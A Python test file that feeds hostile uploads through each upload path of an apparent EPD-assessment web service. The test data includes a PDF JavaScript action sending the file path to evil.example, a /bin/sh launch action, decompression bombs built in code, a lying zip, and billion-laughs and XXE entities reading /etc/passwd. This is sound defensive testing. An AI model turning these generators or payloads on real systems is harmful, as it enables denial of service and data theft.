"""Hostile input, tried for real (issue 6): every hostile file through every upload path.

Each file goes to the upload page (anonymous self-check and a logged-in officer), POST /api/v1/assessments
(anonymous, with a token, and as a raw body), the bulk upload (API and page), the certificate verification upload
(page and API) and `buyclean check`. Each must answer with a clear message (or read the file, when there is an EPD
in it), never a 500 or a hang, and a refused file must leave no row and no file behind.
"""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import resource
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlmodel import Session, func, select

from buyclean.jobs import EmbeddedQueue
from buyclean.store.tables import AssessmentRecord, AuditEvent, Batch, BatchItem, ProductRow, StoredFile, Submission
from tests.conftest import CsrfClient, logged_in, make_account, native_epd
from tests.pdfgen import ready_mix

ROOT = Path(__file__).resolve().parents[1]
BUYCLEAN = Path(sys.executable).parent / "buyclean"
HANG_GUARD_S = 60
MEMORY_LIMIT = 2 * 1024**3  # what a web worker might be given; pdfium inflating a 1 GB bomb needs about 2 GB


# --- building hostile files in code ---------------------------------------------------------------------------

def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF from object bodies (object 1 is the catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pages_pdf(count: int, contents: bytes | None = None) -> bytes:
    """``count`` pages sharing one page description (and one content stream object, if given)."""
    kids = b" ".join(b"%d 0 R" % (n + 4) for n in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources 3 0 R"
    page += b" /Contents %d 0 R >>" % (count + 4) if contents is not None else b" >>"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count),
               b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"]
    objects += [page] * count
    if contents is not None:
        objects.append(contents)
    return raw_pdf(objects)


def zeros_deflated(size_mb: int) -> bytes:
    """A zlib stream of ``size_mb`` MB of zeros, built from one flushed 1 MB block (about 1 KB each) repeated."""
    chunk = bytes(1 << 20)
    co = zlib.compressobj(9)
    first = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    again = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)  # after a full flush the output no longer depends on
    adler = ((size_mb << 20) % 65521) << 16 | 1  # what went before; the Adler-32 of n zeros is n mod 65521, 1
    return first + again * (size_mb - 1) + b"\x03\x00" + adler.to_bytes(4, "big")


class Bits:
    """Codes of varying width, most significant bit first, as PDF's LZW writes them."""

    def __init__(self) -> None:
        self.out, self.held, self.count = bytearray(), 0, 0

    def put(self, code: int, width: int) -> None:
        self.held, self.count = self.held << width | code, self.count + width
        while self.count >= 8:
            self.count -= 8
            self.out.append(self.held >> self.count & 0xFF)
        self.held &= (1 << self.count) - 1

    def bytes(self) -> bytes:
        return bytes(self.out) + (bytes([self.held << (8 - self.count) & 0xFF]) if self.count else b"")


def _width(decoder_table_size: int, early_change: bool = True) -> int:
    # with EarlyChange 1 (the default) the decoder widens its codes one entry before the table needs it
    return next(w for w in (9, 10, 11, 12) if decoder_table_size + early_change < 1 << w or w == 12)


def lzw_encode(data: bytes, early_change: bool = True) -> bytes:
    """Encode as PDF LZWDecode; the table is cleared before it fills, so no code waits on a full table."""
    bits = Bits()
    table: dict[bytes, int] = {}
    emitted = 0

    def clear() -> None:
        nonlocal table, emitted
        bits.put(256, _width(258 + max(0, emitted - 1), early_change) if table else 9)
        table, emitted = {bytes([i]): i for i in range(256)}, 0

    def emit(code: int) -> None:
        nonlocal emitted
        bits.put(code, _width(258 + max(0, emitted - 1), early_change))
        emitted += 1

    clear()
    word = b""
    for value in data:
        longer = word + bytes([value])
        if longer in table:
            word = longer
            continue
        emit(table[word])
        table[longer] = 256 + len(table) - 254  # codes 256 and 257 are clear and end
        word = bytes([value])
        if len(table) > 3800:
            emit_last, word = table[word], b""
            emit(emit_last)
            clear()
    if word:
        emit(table[word])
    bits.put(257, _width(258 + max(0, emitted - 1), early_change))
    return bits.bytes()


def lzw_zero_bomb(cycles: int, early_change: bool = True) -> bytes:
    """Runs of zeros growing by one per code, 3,838 codes a cycle: about 7.4 MB from 5.8 KB."""
    bits = Bits()
    for _ in range(cycles):
        bits.put(256, 12 if bits.out else 9)
        bits.put(0, 9)
        for code in range(258, 4095):  # each code is the one being defined: the previous run and one zero more
            bits.put(code, _width(code, early_change))  # read when the decoder's table holds codes below it
    bits.put(257, 12)
    return bits.bytes()


def run_length_zeros(size: int) -> bytes:
    return b"\x81\x00" * (size // 128) + b"\x80"


def stream(data: bytes, filters: str = "/FlateDecode", params: str = "") -> bytes:
    """A stream object; ``params`` is the /DecodeParms array's content, one dictionary or null per filter."""
    decode = b" /DecodeParms [%b]" % params.encode() if params else b""
    return b"<< /Length %d /Filter [%b]%b >>\nstream\n%b\nendstream" % (len(data), filters.encode(), decode, data)


def contents_array_pdf(streams: list[bytes], refs: list[int]) -> bytes:
    """One page whose /Contents is an array of references to the given stream objects (numbered from 5)."""
    array = b" ".join(b"%d 0 R" % (5 + i) for i in refs)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", b"<< >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources 3 0 R /Contents [%b] >>" % array]
    return raw_pdf(objects + streams)


@cache
def epd_pdf() -> bytes:
    """A realistic generated EPD (WeasyPrint, about a second: made once)."""
    return ready_mix().pdf()


def with_actions(action: pikepdf.Dictionary) -> bytes:
    pdf = pikepdf.open(io.BytesIO(epd_pdf()))
    pdf.Root.OpenAction = action
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=action)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    out = io.BytesIO()
    pikepdf.open(io.BytesIO(epd_pdf())).save(out, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    return out.getvalue()


def tiny_objects_pdf() -> bytes:
    # 60,000 one-point rectangles and 20,000 one-letter text objects on one page
    rects = b"".join(b"%d %d 1 1 re f\n" % (n % 600, n // 600 % 780) for n in range(60_000))
    texts = b"".join(b"BT /F1 2 Tf %d %d Td (x) Tj ET\n" % (n % 600, n // 600 % 780) for n in range(20_000))
    return pages_pdf(1, stream(zlib.compress(rects + texts)))


def heavy_pages_pdf(pages: int = 200) -> bytes:
    """``pages`` pages drawing one shared content stream of 1.5 MB of operators: about 30 KB, which PDFium parses
    once per page (300 MB: 25 s before the reading's time ran out, issue 16 finding 7)."""
    return pages_pdf(pages, stream(zlib.compress(b"0 0 1 1 re f\n" * 120_000, 9)))


def lying_zip(name: bytes, raw: bytes, declared: int, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of one member whose directory declares ``declared`` bytes, whatever ``raw`` (its compressed data)
    expands to."""
    local = struct.pack(zipfile.structFileHeader, b"PK\x03\x04", 20, 0, 0, method, 0, 0x21, 0, len(raw), declared,
                        len(name), 0) + name
    central = struct.pack(zipfile.structCentralDir, b"PK\x01\x02", 20, 3, 20, 0, 0, method, 0, 0x21, 0, len(raw),
                          declared, len(name), 0, 0, 0, 0, 0o100644 << 16, 0) + name
    end = struct.pack(zipfile.structEndArchive, b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(raw), 0)
    return local + raw + central + end


def zip_member_bomb() -> bytes:
    """2 MB: a member declared as 1,000 bytes that inflates to 2 GiB (zipfile inflated it whole, 2.4 GB, before
    it found the CRC wrong)."""
    return lying_zip(b"epd.json", zeros_deflated(2048)[2:-4], 1000)  # raw Deflate: no zlib header, no Adler-32


def json_of_many_digits() -> bytes:
    return b'{"buyclean_epd": "1.0", "products": [{"gwp_a1a3": {"value": ' + b"9" * 50_000 + b"}}]}"


def huge_json() -> bytes:
    return b'{"buyclean_epd": "1.0", "padding": "' + b"x" * (100 * 1024 * 1024) + b'"}'


def billion_laughs() -> bytes:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10))
    return (f'<?xml version="1.0"?><!DOCTYPE processDataSet [{entities}]>'
            '<processDataSet xmlns="http://lca.jrc.it/ILCD/Process" version="1.1"><processInformation>'
            '<dataSetInformation><name><baseName xml:lang="en">&lol9;</baseName></name></dataSetInformation>'
            '</processInformation></processDataSet>').encode()


def external_entity() -> bytes:
    return (b'<?xml version="1.0"?><!DOCTYPE processDataSet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b'<processDataSet xmlns="http://lca.jrc.it/ILCD/Process" version="1.1"><processInformation>'
            b'<dataSetInformation><name><baseName xml:lang="en">&xxe;</baseName></name></dataSetInformation>'
            b'</processInformation></processDataSet>')


def epd_json() -> bytes:
    return json.dumps(native_epd()).encode()


@dataclass(frozen=True)
class Hostile:
    """A hostile upload and what buyclean must answer: ``read`` (there is an EPD in it) or an error kind."""

    id: str
    filename: str
    make: Callable[[], bytes]
    outcome: str  # read, unreadable, unsupported or too_large
    message: str = ""  # a regular expression the message must match
    content_type: str = "application/octet-stream"
    # a zip: what a bulk upload answers for the whole request (outcome, message), as it is refused unextracted
    in_batch: tuple[str, str] | None = None
    max_seconds: float | None = None  # the longest any path may take to answer


CASES = [
    Hostile("pdf-javascript", "epd.pdf", lambda: with_actions(pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('http://evil.example/'+this.path)"))), "read"),
    Hostile("pdf-launch", "epd.pdf", lambda: with_actions(pikepdf.Dictionary(
        S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh"), Win=pikepdf.Dictionary(F=pikepdf.String("calc.exe")))),
        "read"),
    Hostile("pdf-encrypted", "epd.pdf", encrypted_pdf, "unreadable", "encrypted"),
    Hostile("pdf-truncated", "epd.pdf", lambda: epd_pdf()[: len(epd_pdf()) // 2], "unreadable",
            "damaged|truncated|no text"),
    Hostile("not-a-pdf", "epd.pdf", lambda: b"MZ\x90\x00 this is a Windows program, not an EPD" * 20, "unsupported",
            "not an EPD format"),
    Hostile("pdf-10000-pages", "epd.pdf", lambda: pages_pdf(10_000), "too_large", "10000 pages"),
    Hostile("pdf-flate-bomb", "epd.pdf", lambda: pages_pdf(1, stream(zeros_deflated(1024))), "too_large",
            "decompression bomb"),
    Hostile("pdf-double-flate-bomb", "epd.pdf", lambda: pages_pdf(1, stream(
        zlib.compress(zeros_deflated(1024), 9), "/FlateDecode /FlateDecode")), "too_large", "decompression bomb"),
    # LZW goes further than Flate (about 2,700:1); this one, 1.6 MB, decodes to 2.2 GB and made PDFium abort
    Hostile("pdf-lzw-bomb", "epd.pdf", lambda: pages_pdf(1, stream(lzw_zero_bomb(300), "/LZWDecode")), "too_large",
            "decompression bomb"),
    # each stream under the limit, but PDFium joins a page's contents: 20 x 220 MB from 4.5 MB made it abort
    Hostile("pdf-contents-array-bomb", "epd.pdf", lambda: contents_array_pdf([stream(zeros_deflated(220))] * 20,
                                                                          list(range(20))), "too_large",
            "decompression bomb"),
    Hostile("pdf-tiny-objects", "epd.pdf", tiny_objects_pdf, "read"),  # read: it needs review, no GWP is on it
    Hostile("json-nested-10000", "epd.json", lambda: b"[" * 10_000 + b"]" * 10_000, "too_large", "nests deeper"),
    Hostile("json-100mb", "epd.json", huge_json, "too_large", "limit"),
    Hostile("xml-billion-laughs", "epd.xml", billion_laughs, "unreadable", "entities or a DOCTYPE"),
    Hostile("xml-external-entity", "epd.xml", external_entity, "unreadable", "entities or a DOCTYPE"),
    Hostile("name-path-traversal", "../../etc/passwd.pdf", epd_json, "read"),
    Hostile("name-control-characters", "epd\x00\x01\x1b[31m\x7f.json", epd_json, "read"),
    Hostile("name-very-long", "é" * 3000 + ".json", epd_json, "read"),
    # Python turns at most 4,300 digits into an int: json.loads raised ValueError, a 500 (issue 16 finding 11)
    Hostile("json-50000-digits", "epd.json", json_of_many_digits, "unreadable", "more than 4,300 digits"),
    Hostile("json-nul-in-text", "epd.json", lambda: json.dumps(native_epd(
        manufacturer="Acme\x00\x1b[2J Concrete", registration_number="EPD\x00-1")).encode(), "read"),
    Hostile("json-sent-as-pdf", "epd.pdf", epd_json, "read", content_type="application/pdf"),
    Hostile("pdf-named-json", "epd.json", epd_pdf, "read", content_type="application/json"),
]
# Cases a regression would answer with gigabytes of memory or minutes of CPU: run through every path in a process
# of their own, with bounded memory and time (test_hostile_files_with_bounded_memory_and_time)
BOUNDED_CASES = [
    Hostile("zip-member-over-declared-size", "epds.zip", zip_member_bomb, "unsupported", "not an EPD format",
            in_batch=("too_large", "expands past the 1,000 bytes its directory declares"), max_seconds=20),
    Hostile("pdf-pages-sharing-a-heavy-stream", "epd.pdf", heavy_pages_pdf, "too_large",
            "more than \\d+ MB of drawing instructions", max_seconds=8),
]
HUGE = {"json-100mb"}  # over the 50 MB upload limit: refused by the request size limit on every web path
STATUS = {"unreadable": 422, "unsupported": 415, "too_large": 413}


@cache
def payload(case_id: str) -> bytes:
    return next(c for c in CASES + BOUNDED_CASES if c.id == case_id).make()


# --- what a refused upload must not leave behind ------------------------------------------------------------

TABLES = (Submission, AssessmentRecord, ProductRow, StoredFile, AuditEvent, Batch, BatchItem)


def snapshot(app: Flask) -> dict[str, Any]:
    """Row counts of the tables an upload writes, and the files in the instance folder."""
    rt = app.extensions["buyclean"]
    with Session(rt.engine) as session:
        counts: dict[str, Any] = {t.__tablename__: session.exec(select(func.count()).select_from(t)).one()
                                  for t in TABLES}
    instance = Path(app.instance_path)
    counts["files"] = sorted(str(p.relative_to(instance)) for p in instance.rglob("*")
                             if p.is_file() and ".sqlite3" not in p.name)
    return counts


def outside_files_dir(app: Flask, before: dict[str, Any]) -> list[str]:
    """New files anywhere but files/ab/<62 hex digits> (where uploads are kept under their SHA-256)."""
    new = set(snapshot(app)["files"]) - set(before["files"])
    return sorted(p for p in new if not re.fullmatch(r"files/[0-9a-f]{2}/[0-9a-f]{62}", p))


def drain(app: Flask) -> None:
    queue = app.extensions["buyclean.jobs"]
    assert isinstance(queue, EmbeddedQueue)
    queue.drain()


# --- the upload paths -----------------------------------------------------------------------------------------

@dataclass
class Answer:
    """What one path answered, reduced to: read or an error kind, the message, and the HTTP status."""

    outcome: str
    message: str
    status: int


def _multipart(data: bytes, case: Hostile, field: str = "file") -> dict[str, Any]:
    return {"data": {field: (io.BytesIO(data), case.filename, case.content_type)},
            "content_type": "multipart/form-data"}


def _json_answer(response: Any, ok: int) -> Answer:
    body = response.get_json(silent=True)
    assert isinstance(body, dict), f"not JSON: {response.status_code} {response.data[:300]!r}"
    if response.status_code == ok:
        return Answer("read", "", response.status_code)
    return Answer(body.get("error", "?"), body.get("message", ""), response.status_code)


def _page_answer(response: Any, ok: int) -> Answer:
    text = html.unescape(response.get_data(as_text=True))
    if response.status_code == ok:
        return Answer("read", "", response.status_code)
    found = re.search(r'<p class="message">(.*?)</p>', text, re.S)
    kind = {v: k for k, v in STATUS.items()}.get(response.status_code, str(response.status_code))
    return Answer(kind, found.group(1) if found else "", response.status_code)


def web_officer(app: Flask, officer: FlaskClient, anonymous: FlaskClient, case: Hostile, data: bytes) -> Answer:
    response = officer.post("/submissions", **_multipart(data, case))
    if response.status_code == 302:
        assert re.search(r"/submissions/\d+$", response.headers["Location"]), response.headers["Location"]
        page = officer.get(response.headers["Location"])
        assert page.status_code == 200
        return Answer("read", "", 302)
    return _page_answer(response, 302)


def web_anonymous(app: Flask, officer: FlaskClient, anonymous: FlaskClient, case: Hostile, data: bytes) -> Answer:
    response = anonymous.post("/submissions", **_multipart(data, case))
    if response.status_code == 200:
        assert "<h2>" in response.get_data(as_text=True)
    return _page_answer(response, 200)


def api_anonymous(app: Flask, officer: FlaskClient, anonymous: FlaskClient, case: Hostile, data: bytes) -> Answer:
    return _json_answer(anonymous.post("/api/v1/assessments", **_multipart(data, case)), 200)


def api_token(app: Flask, officer: FlaskClient, anonymous: FlaskClient, case: Hostile, data: bytes) -> Answer:
    return _json_answer(officer.post("/api/v1/assessments", **_multipart(data, case)), 201)


def api_raw_body(app: Flask, officer: FlaskClient, anonymous: FlaskClient, case: Hostile, data: bytes) -> Answer:
    response = officer.post("/api/v1/assessments", query_string={"filename": case.filename}, data=data,
                            content_type=case.content_type)
    return _json_answer(response, 201)


def _batch_item(app: Flask, client: FlaskClient, batch_id: int) -> Answer:
    drain(app)
    body = client.get(f"/api/v1/batches/{batch_id}").get_json()
    assert body["complete"] and len(body["items"]) == 1, body
    item = body["items"][0]
    if item["status"] == "done":
        assert item["submission_id"] is not None
        return Answer("read", "", 202)
    assert item["status"] == "failed" and item["submission_id"] is None, item
    return Answer(item["error"], item["message"], 202)


def batch_api(app: Flask, officer: FlaskClient, anonymous: FlaskClient, case: Hostile, data: bytes) -> Answer:
    response = officer.post("/api/v1/batches", **_multipart(data, case))
    if response.status_code != 202:
        return _json_answer(response, 202)
    return _batch_item(app, officer, response.get_json()["id"])


def batch_page(app: Flask, officer: FlaskClient, anonymous: FlaskClient, case: Hostile, data: bytes) -> Answer:
    response = officer.post("/batches", **_multipart(data, case))
    found = re.search(r"/batches/(\d+)$", response.headers.get("Location", ""))
    if response.status_code == 302 and response.headers["Location"].endswith("/batches"):
        # refused as a whole (a zip that cannot be extracted): back to the form, which says why
        form = html.unescape(officer.get("/batches").get_data(as_text=True))
        flashed = re.search(r'<p class="flash flash-error"[^>]*>(.*?)</p>', form, re.S)
        return Answer("refused", flashed.group(1) if flashed else "", 302)
    if response.status_code != 302 or not found:
        return _page_answer(response, 302)
    answer = _batch_item(app, officer, int(found.group(1)))
    page = officer.get(f"/batches/{found.group(1)}")
    assert page.status_code == 200
    # the page shows the file's name and the message, as text
    assert answer.message in html.unescape(page.get_data(as_text=True))
    return answer


def verify_page(app: Flask, officer: FlaskClient, anonymous: FlaskClient, case: Hostile, data: bytes) -> Answer:
    response = anonymous.post("/verify", **_multipart(data, case))
    text = html.unescape(response.get_data(as_text=True))
    if response.status_code in (200, 422) and "Not valid" in text:
        problems = re.findall(r"<li>(.*?)</li>", text, re.S)
        return Answer("invalid", " ".join(problems) or "Not valid", response.status_code)
    return _page_answer(response, 200)


def verify_api(app: Flask, officer: FlaskClient, anonymous: FlaskClient, case: Hostile, data: bytes) -> Answer:
    response = anonymous.post("/api/v1/certificates/verify", **_multipart(data, case))
    if response.status_code == 200:
        body = response.get_json()
        assert body["valid"] is False and body["state"] == "invalid", body
        return Answer("invalid", " ".join(body["problems"]), 200)
    answer = _json_answer(response, 200)
    return Answer("invalid" if answer.outcome == "unreadable" else answer.outcome, answer.message, answer.status)


PATHS: dict[str, Callable[[Flask, FlaskClient, FlaskClient, Hostile, bytes], Answer]] = {
    "web-officer": web_officer, "web-anonymous": web_anonymous, "api-anonymous": api_anonymous,
    "api-token": api_token, "api-raw-body": api_raw_body, "batch-api": batch_api, "batch-page": batch_page,
    "verify-page": verify_page, "verify-api": verify_api,
}
STORING = {"web-officer", "api-token", "api-raw-body"}  # these keep a readable file and add a submission
BATCHES = {"batch-api", "batch-page"}  # a batch keeps every file it was given, and fails the unreadable ones
VERIFY = {"verify-page", "verify-api"}


def expected(case: Hostile, path: str) -> str:
    if case.id in HUGE and path not in BATCHES:
        return "too_large"  # the request size limit; a batch may be bigger, and fails the file instead
    if path in VERIFY:
        return "invalid"  # none of them is a certificate
    if path in BATCHES and case.in_batch:
        return case.in_batch[0] if path == "batch-api" else "refused"  # the page goes back to its form, saying why
    return case.outcome


GROUPS = {"pdf": [c for c in CASES if c.id.startswith("pdf-") or c.id == "not-a-pdf"],
          "json-xml": [c for c in CASES if c.id.startswith(("json-nested", "json-100mb", "json-50000", "xml-"))],
          "names-and-types": [c for c in CASES if c.id.startswith(("name-", "json-sent", "json-nul"))]}
assert sorted(c.id for g in GROUPS.values() for c in g) == sorted(c.id for c in CASES)


def try_every_path(app: Flask, client: FlaskClient, case: Hostile) -> list[str]:
    """Send one hostile file through every upload path; return what went wrong."""
    data = payload(case.id)
    anonymous = CsrfClient(app, app.response_class, use_cookies=True)
    # each case from an address of its own: the anonymous rate limit (tested on its own) would refuse later cases
    anonymous.environ_base["REMOTE_ADDR"] = f"198.51.100.{sum(case.id.encode()) % 250 + 1}"
    assert app.extensions["buyclean"].signer_pem  # made on first use (verification): not something a file writes
    problems: list[str] = []
    for path, send in PATHS.items():
        before = snapshot(app)
        started = time.perf_counter()
        answer = send(app, client, anonymous, case, data)
        seconds = time.perf_counter() - started
        after = snapshot(app)
        wanted = expected(case, path)
        where = f"{case.id} via {path}"
        if case.max_seconds is not None and seconds > case.max_seconds:
            problems.append(f"{where}: took {seconds:.1f} s, over {case.max_seconds:g} s")
        if answer.status >= 500 or answer.outcome != wanted:
            problems.append(f"{where}: {answer.outcome} ({answer.status}) {answer.message[:200]!r}, expected {wanted}")
            continue
        refused_batch = path in BATCHES and case.in_batch is not None
        if wanted == "invalid":
            if not answer.message:
                problems.append(f"{where}: no reason given for refusing the certificate")
        elif wanted != "read":
            if answer.status != (202 if path in BATCHES and not refused_batch else STATUS.get(wanted, 302)):
                problems.append(f"{where}: status {answer.status} for {wanted}")
            message = case.in_batch[1] if refused_batch and case.in_batch else case.message
            if not re.search(message if case.id not in HUGE or path in BATCHES else "limit", answer.message):
                problems.append(f"{where}: message {answer.message[:200]!r} does not match {message!r}")
        # what was written: nothing for a refusal; a batch keeps its rows; only stored reads add a submission
        changed = {k for k in before if before[k] != after[k]}
        if wanted == "read" and path in STORING:
            allowed = {"submission", "assessment", "product", "stored_file", "audit_event", "files"}
        elif refused_batch:
            allowed = set()
        elif path in BATCHES:
            allowed = {"batch", "batch_item", "files"} | ({"submission", "assessment", "product", "stored_file",
                                                           "audit_event"} if wanted == "read" else set())
        else:
            allowed = set()
        if changed - allowed:
            problems.append(f"{where}: wrote {sorted(changed - allowed)} for a {wanted} answer")
        if stray := outside_files_dir(app, before):
            problems.append(f"{where}: wrote files outside the file store: {stray}")
        if path in BATCHES and case.id in HUGE and after["files"] != before["files"]:
            problems.append(f"{where}: kept a file that was over the size limit")
    return problems


@pytest.mark.parametrize("group", list(GROUPS))
def test_hostile_files_through_every_upload_path(app: Flask, client: FlaskClient, group: str,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    # the bombs are refused at 32 MB here, to keep the matrix quick; the command line and the memory-bounded
    # test below meet them at the real limit
    monkeypatch.setattr("buyclean.core.readers.pdf.streams.MAX_STREAM_BYTES", 32 * 1024 * 1024)
    postgres = app.extensions["buyclean"].engine.dialect.name == "postgresql"
    problems: list[str] = []
    for case in GROUPS[group]:
        if postgres and case.id in HUGE:
            continue  # refused by the request size limit before any database work: once (on SQLite) is enough
        problems += try_every_path(app, client, case)
    assert not problems, "\n".join(problems)


# --- the command line, in a process of its own with bounded memory and time ------------------------------------

def _bounded() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def run_cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(BUYCLEAN), *args], capture_output=True, text=True, timeout=HANG_GUARD_S,
                          preexec_fn=_bounded, env={**os.environ, **(env or {})}, cwd=ROOT, check=False)


def test_hostile_files_through_the_command_line(tmp_path: Path) -> None:
    # in a process that may use 2 GB at most: a reader that inflated a bomb (pdfium needs about 2 GB for 1 GB) or
    # opened every one of 10,000 pages would be killed, and the test fail, rather than take the machine down
    paths = []
    cases = CASES + BOUNDED_CASES
    for n, case in enumerate(cases):
        # 255 bytes is the most a file system takes in a name, and no name holds "/" or NUL
        paths.append(tmp_path / f"{n:02d}-{case.filename.replace('/', '_').replace(chr(0), '_')[:100]}")
        paths[-1].write_bytes(payload(case.id))
    result = run_cli("check", "--format", "json", *map(str, paths), env={"BUYCLEAN_INSTANCE_PATH": str(tmp_path / "i")})
    assert "Traceback" not in result.stderr, result.stderr
    assert result.returncode == 2, result.stderr[-2000:]  # some files could not be read
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(lines) == len(cases), (result.stdout[-2000:], result.stderr[-2000:])
    problems = []
    for case, path, line in zip(cases, paths, lines, strict=True):
        if case.outcome == "read":
            if line["status"] not in ("compliant", "non_compliant", "needs_review"):
                problems.append(f"{case.id}: {line.get('status')} {line.get('message')}")
        elif line["status"] != "error" or line["error"] != case.outcome:
            problems.append(f"{case.id}: {line.get('status')} {line.get('error')}, expected {case.outcome}")
        elif not re.search(rf"buyclean: {re.escape(str(path))}: .*(?:{case.message})", result.stderr):
            problems.append(f"{case.id}: no message matching {case.message!r} on stderr")
    assert not problems, "\n".join(problems)


# --- the cases a regression would answer with gigabytes or minutes: every web path, in a bounded process --------

# a web worker's share of a small machine: the service, PDFium and the certificate checker fit in a few hundred MB;
# zipfile inflating the zip member bomb needed 2.4 GB, PDFium rendering a 14,400-point page 3.3 GB
BOUNDED_MEMORY = 1536 * 1024**2
BOUNDED_TIMEOUT_S = 150


def _limited(memory: int) -> Callable[[], None]:
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
    return limit


def run_bounded(code: str, tmp_path: Path) -> subprocess.CompletedProcess[str]:
    """Run Python ``code`` from the checkout in a process that may use BOUNDED_MEMORY and BOUNDED_TIMEOUT_S; its
    last line of output is its answer."""
    try:
        return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=False,
                              timeout=BOUNDED_TIMEOUT_S, preexec_fn=_limited(BOUNDED_MEMORY),
                              # one malloc arena per thread reserves 64 MB of address space each
                              env={**os.environ, "MALLOC_ARENA_MAX": "2", "TMPDIR": str(tmp_path)})
    except subprocess.TimeoutExpired as exc:
        pytest.fail(f"still running after {BOUNDED_TIMEOUT_S} s: {str(exc.stderr or '')[-2000:]}")


def bounded_matrix(case_id: str, folder: str) -> None:
    """Send one of BOUNDED_CASES through every upload path of a fresh service; print the problems as JSON (the body
    of the subprocess of test_hostile_files_with_bounded_memory_and_time)."""
    from tests.conftest import service

    case = next(c for c in BOUNDED_CASES if c.id == case_id)
    with service(f"sqlite:///{folder}/bounded.sqlite3", Path(folder)) as app:
        officer = logged_in(app, *make_account(app, role="officer", organisation="Test Agency"))
        print(json.dumps(try_every_path(app, officer, case)))


@pytest.mark.parametrize("case", BOUNDED_CASES, ids=lambda c: c.id)
def test_hostile_files_with_bounded_memory_and_time(case: Hostile, tmp_path: Path) -> None:
    result = run_bounded(f"from tests.test_hostile_files import bounded_matrix; "
                         f"bounded_matrix({case.id!r}, {str(tmp_path)!r})", tmp_path)
    assert result.returncode == 0, result.stderr[-3000:]
    problems = json.loads(result.stdout.strip().splitlines()[-1])
    assert not problems, "\n".join(problems)


def huge_page_epd() -> bytes:
    """The generated EPD with every page 14,400 points (5 m) square, the largest page PDF allows."""
    pdf = pikepdf.open(io.BytesIO(epd_pdf()))
    for page in pdf.pages:
        page.MediaBox = pikepdf.Array([0, 0, 14_400, 14_400])
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def evidence_of_a_huge_page(folder: str) -> None:
    """Store huge_page_epd(), make its GWP evidence boxless (as evidence read from a page's text is), and fetch the
    picture through the API and the core; print the pictures' pixel sizes and the seconds taken as JSON (the body of
    the subprocess of test_evidence_of_a_huge_page_is_bounded)."""
    from PIL import Image
    from sqlalchemy.orm.attributes import flag_modified

    from buyclean.core.readers.pdf import render_evidence
    from tests.conftest import service

    data = huge_page_epd()
    with service(f"sqlite:///{folder}/bounded.sqlite3", Path(folder)) as app:
        officer = logged_in(app, *make_account(app, role="officer", organisation="Test Agency"))
        created = officer.post("/api/v1/assessments", query_string={"filename": "huge.pdf"}, data=data,
                               content_type="application/pdf")
        assert created.status_code == 201, created.get_json()
        submission_id = int(created.headers["Location"].rsplit("/", 1)[1])
        with Session(app.extensions["buyclean"].engine) as session:
            record = session.exec(select(AssessmentRecord)).one()
            evidence = record.result["products"][0]["evidence"]["gwp_a1a3"]
            page = evidence["page"]
            evidence["bbox"] = None
            flag_modified(record, "result")
            session.add(record)
            session.commit()
        started = time.perf_counter()
        response = officer.get(f"/api/v1/assessments/{submission_id}/evidence.png",
                               query_string={"product": 0, "field": "gwp_a1a3"})
        api_seconds = time.perf_counter() - started
        assert response.status_code == 200, response.get_data(as_text=True)[:500]
        started = time.perf_counter()
        core = render_evidence(data, page, None)
        print(json.dumps({"api": Image.open(io.BytesIO(response.data)).size, "api_seconds": api_seconds,
                          "core": Image.open(io.BytesIO(core)).size, "core_seconds": time.perf_counter() - started}))


def test_evidence_of_a_huge_page_is_bounded(tmp_path: Path) -> None:
    # the whole of a 14,400-point page at the usual scale was 28,800 pixels square: 3.3 GB and 40 s
    result = run_bounded(f"from tests.test_hostile_files import evidence_of_a_huge_page; "
                         f"evidence_of_a_huge_page({str(tmp_path)!r})", tmp_path)
    assert result.returncode == 0, result.stderr[-3000:]
    shown = json.loads(result.stdout.strip().splitlines()[-1])
    from buyclean.core.readers.pdf.evidence import MAX_PIXELS

    for where in ("api", "core"):
        width, height = shown[where]
        assert width * height <= MAX_PIXELS and min(width, height) >= 1000, shown  # smaller, still legible
